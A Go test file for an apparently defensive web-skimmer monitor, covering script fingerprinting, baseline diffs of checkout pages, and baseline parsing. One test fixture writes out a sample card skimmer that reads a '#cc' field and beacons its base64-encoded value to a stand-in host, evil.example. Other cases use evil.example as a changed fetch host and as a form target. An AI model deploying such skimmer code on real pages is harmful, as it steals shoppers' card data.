package inventory

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/check/observation"
)

func TestNormalizeScriptIgnoresHarmlessChanges(t *testing.T) {
	tests := []struct {
		name string
		a, b string
	}{
		{"a rotating CSRF token is no change",
			`var csrf = "a8f3c9e1b2d4f6a8c0e2";`, `var csrf = "f1e2d3c4b5a69788a0b1";`},
		{"a timestamp and an order total are no change",
			`window.order = {total: 3980, at: 1732500000123};`, `window.order = {total: 12800, at: 1732500099999};`},
		{"an ISO date is no change",
			`var t = "2026-11-25T10:00:00Z";`, `var t = "2026-11-26T11:30:12Z";`},
		{"re-minified whitespace and comments are no change",
			"/* v1.2 */\nfunction add(a, b) {\n  return a + b; // sum\n}\n", "function add(a,b){return a+b}"},
		{"a UUID is no change",
			`track("0f8fad5b-d9cb-469f-a165-70867728950e")`, `track("7c9e6679-7425-40de-944b-e07fc1f90ae7")`},
		{"quote style is no change",
			`$('#cart').show();`, `$("#cart").show()`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if Fingerprint(tt.a) != Fingerprint(tt.b) {
				t.Errorf("fingerprints differ:\n%q\n%q", NormalizeScript(tt.a), NormalizeScript(tt.b))
			}
		})
	}
}

func TestNormalizeScriptSeesRealChanges(t *testing.T) {
	base := `function add(a,b){return a+b}`
	tests := []struct {
		name, changed string
	}{
		{"appended skimmer code", base + `;document.querySelector("#cc").addEventListener("change",function(e){new Image().src="https://evil.example/c?d="+btoa(e.target.value)})`},
		{"a changed host", strings.Replace(`fetch("https://good.example/x")`, "good", "evil", 1)},
		{"a changed operator", `function add(a,b){return a-b}`},
		{"a changed identifier", `function add(a,c){return a+c}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			orig := base
			if strings.Contains(tt.changed, "evil.example/x") {
				orig = `fetch("https://good.example/x")`
			}
			if Fingerprint(orig) == Fingerprint(tt.changed) {
				t.Errorf("same fingerprint for %q and %q", orig, tt.changed)
			}
		})
	}
}

func TestScriptIdentityDropsCacheBusters(t *testing.T) {
	if a, b := ScriptIdentity("https://Shop.example/static/app.js?v=123"), ScriptIdentity("https://shop.example/static/app.js?v=456#x"); a != b {
		t.Fatalf("%q != %q", a, b)
	}
	if ScriptIdentity("https://shop.example/a.js") == ScriptIdentity("https://shop.example/b.js") {
		t.Fatal("different paths must differ")
	}
	// The origin part follows origin.Of: a default port written out is the
	// same script, another port is not.
	if a, b := ScriptIdentity("https://shop.example:443/a.js"), ScriptIdentity("https://shop.example/a.js"); a != b {
		t.Fatalf("the default port makes a different script: %q != %q", a, b)
	}
	if ScriptIdentity("https://shop.example:8443/a.js") == ScriptIdentity("https://shop.example/a.js") {
		t.Fatal("another port must differ")
	}
}

func obs(scripts []observation.Script, reqs []observation.Request, forms []observation.Form, headers map[string]string) *observation.Observation {
	return &observation.Observation{
		Target:   "http://127.0.0.1:1/checkout?x=1",
		Complete: true,
		Pages:    []observation.Page{{URL: "http://127.0.0.1:1/checkout", Status: 200, Headers: headers}},
		Scripts:  scripts,
		Requests: reqs,
		Forms:    forms,
	}
}

func TestDiff(t *testing.T) {
	doc := "http://127.0.0.1:1/checkout"
	app := observation.Script{URL: "http://127.0.0.1:1/static/app.js?v=1", Kind: observation.ScriptExternal, DocumentURL: doc, Fingerprint: Fingerprint("a()")}
	inline := observation.Script{Kind: observation.ScriptInline, DocumentURL: doc, Fingerprint: Fingerprint(`var t="abcdef0123456789abcd"`)}
	load := observation.Request{URL: "http://127.0.0.1:2/pixel.gif?id=1", Type: "Image", Phase: observation.PhaseLoad}
	form := observation.Form{DocumentURL: doc, Action: "http://127.0.0.1:1/order", Fields: []observation.Field{{Name: "email", Class: observation.FieldEmail}}}
	hdr := map[string]string{"Content-Security-Policy-Report-Only": "script-src 'self' 'nonce-abc'; report-uri /r", "X-Frame-Options": "DENY"}
	base := FromObservation(obs([]observation.Script{app, inline}, []observation.Request{load}, []observation.Form{form}, hdr))

	tests := []struct {
		name  string
		obs   *observation.Observation
		kinds []string
	}{
		{"the same page with new cache busters, tokens and nonces is unchanged",
			obs([]observation.Script{
				{URL: "http://127.0.0.1:1/static/app.js?v=2", Kind: observation.ScriptExternal, DocumentURL: doc, Fingerprint: Fingerprint("a()")},
				{Kind: observation.ScriptInline, DocumentURL: doc, Fingerprint: Fingerprint(`var t="9999ffff0000eeee1111"`)},
			}, []observation.Request{{URL: "http://127.0.0.1:2/pixel.gif?id=2", Type: "Image", Phase: observation.PhaseInput}},
				[]observation.Form{form},
				map[string]string{"content-security-policy-report-only": "script-src 'self' 'nonce-xyz'; report-uri /r", "x-frame-options": "DENY"}),
			nil},
		{"an altered first-party library is a changed script",
			obs([]observation.Script{{URL: app.URL, Kind: observation.ScriptExternal, DocumentURL: doc, Fingerprint: Fingerprint("a();skim()")}, inline},
				[]observation.Request{load}, []observation.Form{form}, hdr),
			[]string{ChangeScriptChanged}},
		{"a new destination after input is reported as after input",
			obs([]observation.Script{app, inline}, []observation.Request{load, {URL: "https://evil.example/c", Type: "Ping", Phase: observation.PhaseUnload}},
				[]observation.Form{form}, hdr),
			[]string{ChangeDestinationNew}},
		{"card fields on a page that had none",
			obs([]observation.Script{app, inline}, []observation.Request{load},
				[]observation.Form{form, {DocumentURL: doc, Fields: []observation.Field{{Name: "cc", Class: observation.FieldCardNumber}}}}, hdr),
			[]string{ChangeCardFieldsNew}},
		{"a removed CSP and a weakened frame policy",
			obs([]observation.Script{app, inline}, []observation.Request{load}, []observation.Form{form}, map[string]string{"x-frame-options": "ALLOWALL"}),
			[]string{ChangeHeaderRemoved, ChangeHeaderWeakened}},
		{"a form that posts elsewhere",
			obs([]observation.Script{app, inline}, []observation.Request{load},
				[]observation.Form{{DocumentURL: doc, Action: "https://evil.example/order", Fields: form.Fields}}, hdr),
			[]string{ChangeFormActionChange}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Diff(base, tt.obs)
			var kinds []string
			for _, c := range got {
				kinds = append(kinds, c.Kind)
			}
			if strings.Join(kinds, ",") != strings.Join(tt.kinds, ",") {
				t.Errorf("changes = %v, want %v (%+v)", kinds, tt.kinds, got)
			}
		})
	}
}

func TestDiffWithoutBaselineIsEmpty(t *testing.T) {
	if got := Diff(nil, obs(nil, nil, nil, nil)); got != nil {
		t.Fatalf("got %v", got)
	}
}

func TestBaselineRoundTripAndMerge(t *testing.T) {
	now := time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)
	doc := "http://127.0.0.1:1/checkout"
	o1 := obs([]observation.Script{{URL: doc + ".js", Kind: observation.ScriptExternal, DocumentURL: doc, Fingerprint: "f1"}}, nil, nil, nil)
	o2 := obs([]observation.Script{{URL: doc + ".js", Kind: observation.ScriptExternal, DocumentURL: doc, Fingerprint: "f2"}}, nil, nil, nil)
	b := New(now)
	b.Merge(FromObservation(o1), now)
	b.Merge(FromObservation(o2), now)
	path := filepath.Join(t.TempDir(), "b.json")
	if err := b.Save(path); err != nil {
		t.Fatal(err)
	}
	got, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	p := got.Page(o1.Target)
	if p == nil || len(p.Scripts) != 1 || len(p.Scripts[0].Fingerprints) != 2 {
		t.Fatalf("merged page = %+v", p)
	}
	if d := Diff(p, o2); len(d) != 0 {
		t.Fatalf("after merging, o2 must be clean: %+v", d)
	}
}

func TestReadRejectsMalformedBaselines(t *testing.T) {
	for name, in := range map[string]string{
		"garbage":          "not json",
		"a future version": `{"version": 99, "pages": {}}`,
		"an unknown field": `{"version": 1, "pages": {}, "surprise": 1}`,
		"a null page":      `{"version": 1, "pages": {"x": null}}`,
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := Read(strings.NewReader(in)); err == nil {
				t.Fatal("want an error")
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	f.Add(`{"version":1,"pages":{"a":{"target":"a","scripts":[{"identity":"x","kind":"inline","fingerprints":["f"]}]}}}`)
	f.Add(`{}`)
	f.Fuzz(func(t *testing.T, s string) {
		b, err := Read(strings.NewReader(s))
		if err != nil {
			return
		}
		for _, p := range b.Pages {
			_ = Diff(p, obs(nil, nil, nil, nil))
		}
	})
}

func FuzzNormalizeScript(f *testing.F) {
	f.Add("function a(){return 1}// x\n/* y */")
	f.Fuzz(func(t *testing.T, s string) {
		n := NormalizeScript(s)
		if NormalizeScript(n) != NormalizeScript(NormalizeScript(n)) {
			t.Fatalf("normalisation is not stable for %q", s)
		}
	})
}
